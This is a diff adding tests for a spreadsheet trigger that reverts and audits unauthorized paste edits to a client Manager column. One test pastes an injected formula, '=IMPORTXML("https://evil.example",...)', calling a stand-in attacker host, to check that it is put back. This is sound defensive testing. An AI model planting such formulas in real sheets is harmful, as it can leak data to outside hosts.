@@ -51,7 +51,16 @@ describe('a hand edit of a client’s Manager cell', () => {
       );
     };
     const managerOf = (id: string) => rowsOf(emu(), 'Clients').find((r) => r.ID === id)?.Manager;
-    return { olgas, nobodys, type, managerOf };
+    /** A paste of one column of Manager values starting at `id`'s row: Sheets gives the trigger no old values. */
+    const paste = (id: string, values: string[], by: string) => {
+      const first = cellOf(id);
+      const range = first.getSheet().getRange(first.getRow(), first.getColumn(), values.length, 1);
+      range.setValues(values.map((v) => [v]));
+      emu().runAs({ kind: 'installableTrigger', owner: ADMIN, user: by || 'ion@gmail.com' }, () =>
+        server.onEditInstalled({ range, user: { getEmail: () => by } } as never),
+      );
+    };
+    return { olgas, nobodys, type, paste, managerOf };
   }
 
   const reverted = () => rowsOf(emu(), 'Audit').filter((r) => r.Action === 'reverted');
@@ -90,5 +99,63 @@ describe('a hand edit of a client’s Manager cell', () => {
     type(olgas, BORIS, '');
     expect(managerOf(olgas)).toBe(OLGA);
     expect(reverted()[0]).toMatchObject({ User: 'unknown (email hidden)', Field: 'Manager' });
+  });
+
+  describe('pasted over the Manager column', () => {
+    // Ion is made free by an audited hand edit, so Audit knows every client's manager.
+    const free = (t: ReturnType<typeof setUp>) => t.type(t.nobodys, '', ADMIN);
+
+    it('by a manager: each Manager they may not set goes back to the recorded one, with a reverted row; their own free client is kept', () => {
+      const t = setUp();
+      free(t);
+      t.paste(t.olgas, [BORIS, BORIS], BORIS);
+      expect(t.managerOf(t.olgas)).toBe(OLGA);
+      expect(t.managerOf(t.nobodys)).toBe(BORIS);
+      expect(reverted()).toHaveLength(1);
+      expect(reverted()[0]).toMatchObject({ User: BORIS, 'Client ID': t.olgas, Field: 'Manager', 'Old value': BORIS, 'New value': OLGA });
+      expect(String(reverted()[0].Source)).toMatch(/only admins assign other managers/);
+      // The paste is on record, and so is the Manager it did set.
+      expect(rowsOf(emu(), 'Audit').some((r) => r.Action === 'paste')).toBe(true);
+      expect(rowsOf(emu(), 'Audit').some((r) => r.Action === 'cell edit' && r['Client ID'] === t.nobodys && r['New value'] === BORIS)).toBe(true);
+    });
+
+    it('by a manager handing clients to someone else, or pasting a formula: all put back', () => {
+      const t = setUp();
+      free(t);
+      t.paste(t.olgas, ['=IMPORTXML("https://evil.example","//a")', OLGA], BORIS);
+      expect(t.managerOf(t.olgas)).toBe(OLGA);
+      expect(t.managerOf(t.nobodys)).toBe('');
+      expect(reverted()).toHaveLength(2);
+    });
+
+    it('then pasted again: the second paste is judged against what the first one left', () => {
+      const t = setUp();
+      free(t);
+      t.paste(t.olgas, [BORIS, BORIS], BORIS);
+      // Ion is Boris's now, and only an admin may hand him on; nor may Boris take Olga's at a second try.
+      t.paste(t.olgas, [BORIS, OLGA], BORIS);
+      expect(t.managerOf(t.olgas)).toBe(OLGA);
+      expect(t.managerOf(t.nobodys)).toBe(BORIS);
+      expect(reverted()).toHaveLength(3);
+      expect(reverted()[2]).toMatchObject({ 'Client ID': t.nobodys, 'Old value': OLGA, 'New value': BORIS });
+    });
+
+    it('by an admin: kept, with a row per Manager changed', () => {
+      const t = setUp();
+      free(t);
+      t.paste(t.olgas, [BORIS, OLGA], ADMIN);
+      expect(t.managerOf(t.olgas)).toBe(BORIS);
+      expect(t.managerOf(t.nobodys)).toBe(OLGA);
+      expect(reverted()).toHaveLength(0);
+      expect(rowsOf(emu(), 'Audit').filter((r) => r.Action === 'cell edit' && r.Field === 'Manager' && r.Source === 'paste')).toHaveLength(2);
+    });
+
+    it('by someone whose email Google hides: put back', () => {
+      const t = setUp();
+      free(t);
+      t.paste(t.olgas, [BORIS, BORIS], '');
+      expect(t.managerOf(t.olgas)).toBe(OLGA);
+      expect(t.managerOf(t.nobodys)).toBe('');
+    });
   });
 });
